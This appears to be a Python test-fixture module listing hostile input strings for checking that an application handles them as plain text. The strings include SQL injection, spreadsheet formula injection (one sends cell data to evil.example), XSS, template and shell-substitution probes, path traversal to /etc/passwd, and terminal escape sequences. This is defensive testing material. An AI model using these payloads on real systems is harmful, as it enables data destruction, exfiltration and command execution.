"""Texts that would do harm if anything took them for more than text."""

SQL = (
    "'; DROP TABLE flow_row; --",
    "x' OR '1'='1",
    '"; DELETE FROM institution; --',
    "1; ATTACH DATABASE 'stolen.db' AS s; --",
    "%",
    "_",
    "2027011_-1",
    "\\",
    ":name",
    "?",
    "%(name)s",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "＝1+1",
    "{=1+1}",
    "-5%",
)
LINES = ('a","b', "a\tb", "a;b", "a,b,c", "'a", "a|b")
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</td></table><iframe src=//evil.example>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "&lt;b&gt;",
)
RICH = ("[red]甲[/red]", "[/]", "[/red]", "[link=http://evil.example]甲[/link]", "[bold", ":boom:")
FORMATS = ("{0}", "{name}", "{given!r}", "%s%n", "${HOME}", "$(touch owned)", "`touch owned`")
PATHS = ("../../owned", "/etc/passwd", "..\\..\\owned", "CON", "NUL.xlsx", "~/owned", "file:///etc")
TOML = ('"""\n[[sources]]\npattern = "*"', 'a"\ndb = "owned.db"', "a\\", "a = 1")
STEERING = (
    "\x1b[31m红\x1b[0m",
    "\x1b]8;;http://evil.example\x07甲\x1b]8;;\x07",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07\x08\x7f",
    "甲\u202e乙\u202c",
    "甲\u2066乙\u2069",
)

TEXTS = SQL + FORMULAS + LINES + MARKUP + RICH + FORMATS + PATHS
"""What an option or a cell may hold; STEERING stands apart, since a command line refuses it."""
